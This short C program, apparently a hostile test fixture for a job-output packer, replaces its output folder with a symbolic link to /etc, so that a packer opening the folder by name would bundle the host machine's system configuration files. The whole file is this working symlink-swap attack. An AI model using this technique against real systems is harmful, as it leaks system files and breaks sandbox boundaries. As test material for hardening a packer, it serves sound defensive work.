/* Hostile (native, process runtime): moves its output folder aside and puts a link to /etc in
 * its place, so a packer that opens the output folder by its name packs the seller's /etc. */
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

int main(void)
{
    const char *out = getenv("SURPLUS_OUT");
    char aside[4096];
    if (!out) out = "/out";
    snprintf(aside, sizeof aside, "%s.aside", out);
    int moved = rename(out, aside) == 0;
    int linked = moved && symlink("/etc", out) == 0;
    printf("moved %d linked %d\n", moved, linked);
    return 0;
}
